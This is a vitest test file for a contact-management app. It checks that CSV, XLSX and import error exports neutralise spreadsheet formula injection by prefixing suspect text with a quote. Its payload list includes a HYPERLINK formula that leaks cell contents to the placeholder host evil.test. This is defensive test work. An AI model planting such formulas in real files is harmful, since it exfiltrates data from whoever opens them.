// CSV/formula injection: text that a spreadsheet would run as a formula (= + - @, a leading tab or CR) leaves every
// export — CSV, XLSX and the import's errors.csv — with a leading single quote; numbers stay numbers.
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../../../test/test-app.js';
import { spreadsheetText } from '../../../core/spreadsheet-cell.js';
import { CSV, runImportToEnd, upload } from '../import/import-test-helpers.js';

const PAYLOADS = ['=HYPERLINK("http://evil.test/?leak="&A1,"click")', '+1+1', '-2+3', '@SUM(1)'];
// Names are trimmed on the way in; a custom text field keeps a leading tab or carriage return.
const HIDDEN = ['\t=1+1', '\r=1+1', '\t=1+1', '\r=1+1'];
let t: TestApp;

beforeAll(async () => {
  t = await startTestApp();
  await t.json('POST', '/api/v1/custom-fields', t.admin, { object: 'contact', key: 'score', label: '=Score', type: 'number' });
  await t.json('POST', '/api/v1/custom-fields', t.admin, { object: 'contact', key: 'memo', label: 'Memo', type: 'text' });
  for (const [i, name] of PAYLOADS.entries()) {
    const res = await t.json('POST', '/api/v1/contacts', t.admin, { displayName: name, title: '-2+3', phones: ['+86 138 0013 800' + i], tags: ['probe'], customFields: { score: -5, memo: HIDDEN[i] } });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
  }
});
afterAll(() => t.close());

const exportOf = (format: string) => t.app.inject({ url: `/api/v1/contacts/export?format=${format}&columns=displayName,title,phones,cf.score,cf.memo&tag=probe&sort=createdAt`, headers: t.admin });

describe('formula injection in exports', () => {
  it('prefixes only text that starts like a formula', () => {
    expect([...PAYLOADS, '\t=1+1', '\r=1+1'].map(spreadsheetText)).toEqual([...PAYLOADS, '\t=1+1', '\r=1+1'].map((p) => `'${p}`));
    expect(['', 'Alice', '张伟', "'=already", ' =1', 'a=1'].map(spreadsheetText)).toEqual(['', 'Alice', '张伟', "'=already", ' =1', 'a=1']);
  });

  it('neutralises CSV cells and the header, keeping numbers as they are', async () => {
    const res = await exportOf('csv');
    expect(res.statusCode).toBe(200);
    const rows: string[][] = parse(res.rawPayload.subarray(3).toString('utf8'), { relax_quotes: true });
    expect(rows[0]).toEqual(['Name', 'Title', 'Phones', "'=Score", 'Memo']);
    expect(rows.slice(1).map((r) => r[0])).toEqual(PAYLOADS.map((p) => `'${p}`));
    // A phone in international form starts with +: it is text to Rapport, so it gets the quote too (and Excel keeps the +).
    expect(rows[1]).toEqual([`'${PAYLOADS[0]}`, "'-2+3", "'+8613800138000", '-5', "'\t=1+1"]);
    expect(rows[2]![4]).toBe("'\r=1+1");
  });

  it('neutralises XLSX text cells, while numbers stay numeric cells', async () => {
    const res = await exportOf('xlsx');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as never);
    const sheet = wb.getWorksheet('contacts')!;
    expect(sheet.getRow(1).values).toEqual([undefined, 'Name', 'Title', 'Phones', "'=Score", 'Memo']);
    for (const [i, p] of PAYLOADS.entries()) {
      const row = sheet.getRow(i + 2);
      expect(row.getCell(1).value).toBe(`'${p}`);
      expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String); // never a formula cell
      expect(row.getCell(2).value).toBe("'-2+3");
      expect(row.getCell(4).value).toBe(-5);
      expect(row.getCell(5).value).toBe(`'${HIDDEN[i]!.replace('\r', '\n')}`); // XML reads a CR back as LF
    }
  });

  it('neutralises the rejected values and the column names in an import errors.csv', async () => {
    const file = ['Name,=Email', ...PAYLOADS.map((p, i) => `Row ${i},"${p.replace(/"/g, '""')}"`)].join('\n');
    const up = await upload(t, file, CSV, 'object=contacts&fileName=probe.csv');
    expect(up.status).toBe(201);
    // Strict: a bad email refuses the row, so every payload lands in errors.csv as an error.
    const done = await runImportToEnd(t, up.body.id, { mapping: { Name: 'displayName', '=Email': 'emails' }, strict: true });
    expect(done.progress).toMatchObject({ failed: 4, created: 0 });
    const res = await t.app.inject({ url: `/api/v1/imports/${up.body.id}/errors.csv`, headers: t.admin });
    const rows: string[][] = parse(res.body, { bom: true });
    // The HYPERLINK cell holds a comma, so the email list splits it and it is reported twice.
    expect(new Set(rows.slice(1).map((r) => `${r[1]} ${r[2]}`))).toEqual(new Set(PAYLOADS.map((p) => `'=Email '${p}`)));
  });
});
